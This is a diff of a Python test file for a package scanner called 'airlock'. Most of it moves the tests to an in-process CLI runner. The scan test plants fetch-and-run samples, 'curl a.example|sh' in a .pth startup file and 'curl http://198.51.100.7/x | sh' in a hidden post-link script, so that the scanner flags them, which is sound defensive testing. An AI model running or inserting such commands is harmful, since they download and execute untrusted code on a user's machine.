@@ -7,12 +7,12 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from click.testing import CliRunner
+from click.testing import CliRunner, Result
 from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
 
 from airlock.cli import airlock as command
 from tests.checks.packing import pack_wheel
-from tests.functional.conftest import airlock
+from tests.functional.conftest import NO_DATABASE, airlock
 from tests.functional.test_verify import VALIDATOR as VERIFY_VALIDATOR
 from tests.simulators.condas import PACKAGE, make_conda
 from tests.simulators.upstream import Upstream
@@ -44,6 +44,12 @@ def repackaged(**more: bytes) -> dict[str, bytes]:
     }
 
 
+def invoke(*words: str | Path) -> Result:
+    """Run a command in this process, which saves most of its time; it examines in others."""
+    words = (words[0], "--no-progress", *words[1:])
+    return CliRunner().invoke(command, list(map(str, words)), env={"AIRLOCK_DB": str(NO_DATABASE)})
+
+
 class Desk:
     def __init__(self, folder: Path, upstream: Upstream) -> None:
         self.folder = folder
@@ -57,11 +63,10 @@ class Desk:
         return make_conda(folder, **{"files": repackaged(), **changes})
 
     def diff(self, *words: str | Path) -> tuple[int, dict[str, Any]]:
-        done = airlock("diff", *words, "--format", "json", "--index", self.upstream.url)
-        assert "Traceback" not in done.stderr
+        done = invoke("diff", *words, "--format", "json", "--index", self.upstream.url)
         document: dict[str, Any] = json.loads(done.stdout)
         VALIDATOR.validate(document)
-        return done.returncode, document
+        return done.exit_code, document
 
 
 @pytest.fixture(scope="module")
@@ -75,19 +80,19 @@ def test_a_scan_sees_what_runs(desk: Desk) -> None:
     done = airlock("scan", quiet)
     assert done.returncode == 0, done.stdout
     startup = {"site-packages/anchor_init.pth": b"import os; os.system('curl a.example|sh')\n"}
-    done = airlock("scan", desk.package("busy", files=startup))
-    assert done.returncode in {1, 3}
-    assert "anchor_init.pth" in done.stdout
+    busy = invoke("scan", desk.package("busy", files=startup))
+    assert busy.exit_code in {1, 3}
+    assert "anchor_init.pth" in busy.stdout
     script = {"bin/.anchor-post-link.sh": b"curl http://198.51.100.7/x | sh\n"}
-    done = airlock("scan", desk.package("linked", files=script))
-    assert done.returncode in {1, 3}, done.stdout
-    assert "anchor-1.0.data/scripts/.anchor-post-link.sh" in done.stdout
+    linked = invoke("scan", desk.package("linked", files=script))
+    assert linked.exit_code in {1, 3}, linked.stdout
+    assert "anchor-1.0.data/scripts/.anchor-post-link.sh" in linked.stdout
 
 
 def test_a_folder_may_hold_packages(desk: Desk, tmp_path: Path) -> None:
     make_conda(tmp_path, {"site-packages/anchor.py": b"WEIGHT = 1\n"})
-    done = airlock("scan", tmp_path)
-    assert done.returncode == 0
+    done = invoke("scan", tmp_path)
+    assert done.exit_code == 0
     assert PACKAGE in done.stdout
 
 
